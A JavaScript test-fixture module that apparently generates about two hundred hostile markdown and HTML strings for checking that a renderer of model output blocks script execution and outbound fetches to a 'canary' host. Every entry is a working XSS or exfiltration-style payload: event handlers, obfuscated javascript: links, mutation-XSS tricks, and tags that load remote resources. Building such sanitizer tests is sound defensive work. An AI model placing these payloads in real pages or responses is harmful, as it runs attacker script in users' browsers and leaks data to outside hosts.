// Model output that attacks the page: two hundred ways to run a script, or to
// make a browser fetch something from `canary`.

export const hostilePieces = (canary) => {
  const run = "window.pwned=1";
  const tags = ["img", "svg", "video", "audio", "body", "details", "input", "iframe", "object", "marquee"];
  const events = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onstart", "onanimationend"];
  const handlers = tags.flatMap((tag) => [
    ...events.map((event) => `<${tag} src=x autofocus open ${event}="${run}">`),
    ...events.slice(0, 3).map((event) => `<${tag}/${event}=${run} src="${canary}/${tag}-${event}">`),
  ]);
  const schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", "\u0001javascript:", "vbscript:"]
    .concat(["data:text/html,<script>window.pwned=1</script>//", "view-source:javascript:", "blob:javascript:"]);
  const links = schemes.flatMap((scheme) => [
    `[a link](${scheme}${run})`,
    `[a link](<${scheme}${run}>)`,
    `<${scheme}${run}>`,
    `<a href="${scheme}${run}">a link</a>`,
    `[a reference][${run}]\n\n[${run}]: ${scheme}${run}`,
  ]);
  const fetches = [
    `![inline](${canary}/inline.png)`,
    `![titled](${canary}/titled.png "title")`,
    `![reference][r1]\n\n[r1]: ${canary}/reference.png`,
    `[![nested](${canary}/nested.png)](${canary}/outer)`,
    `![data](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>)`,
    `<img src="${canary}/img.png">`,
    `<img srcset="${canary}/srcset.png 1x">`,
    `<picture><source srcset="${canary}/picture.png"><img></picture>`,
    `<link rel="stylesheet" href="${canary}/style.css">`,
    `<link rel="prefetch" href="${canary}/prefetch">`,
    `<link rel="dns-prefetch" href="${canary}/dns">`,
    `<style>@import "${canary}/import.css"; * { background: url(${canary}/background.png) }</style>`,
    `<div style="background:url(${canary}/inline-style.png)">styled</div>`,
    `<svg><image href="${canary}/svg-image.png"/></svg>`,
    `<svg><use href="${canary}/use.svg#x"/></svg>`,
    `<svg><script href="${canary}/svg-script.js"/></svg>`,
    `<script src="${canary}/script.js"></script>`,
    `<script>${run};fetch("${canary}/fetch")</script>`,
    `<iframe src="${canary}/iframe"></iframe>`,
    `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
    `<object data="${canary}/object"></object>`,
    `<embed src="${canary}/embed">`,
    `<video src="${canary}/video.mp4" poster="${canary}/poster.png"></video>`,
    `<audio src="${canary}/audio.mp3"></audio>`,
    `<track src="${canary}/track.vtt">`,
    `<base href="${canary}/">`,
    `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
    `<form action="${canary}/form"><button autofocus>send</button></form>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${run}>">`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<template><script>${run}</script></template>`,
    `<a href="x" ping="${canary}/ping">ping</a>`,
    "```mermaid\ngraph TD; A-->B; click A \"javascript:" + run + "\"\n```",
    "```html\n<script>" + run + "</script>\n```",
    "`<img src=x onerror=" + run + ">`",
    `| a |\n|---|\n| <img src=x onerror=${run}> |`,
    `> <script>${run}</script>`,
    `# <img src=x onerror=${run}>`,
    `- <svg onload=${run}>`,
    `1. <details ontoggle=${run} open>`,
    `<!-- --><img src=x onerror=${run}><!-- -->`,
    `&lt;img src=x onerror=${run}&gt;`,
    `\\<img src=x onerror=${run}>`,
    `<scr<script>ipt>${run}</script>`,
    `<IMG SRC=javascript:${run}>`,
    `<x onclick=${run}>custom</x>`,
    `<x-element is="script">${run}</x-element>`,
    `{{constructor.constructor('${run}')()}}`,
    `\${${run}}`,
  ];
  const doubled = handlers.slice(0, 30).map((piece) => `**${piece}** and [${piece}](https://example.com "${run}")`);
  return [...handlers, ...links, ...fetches, ...doubled];
};
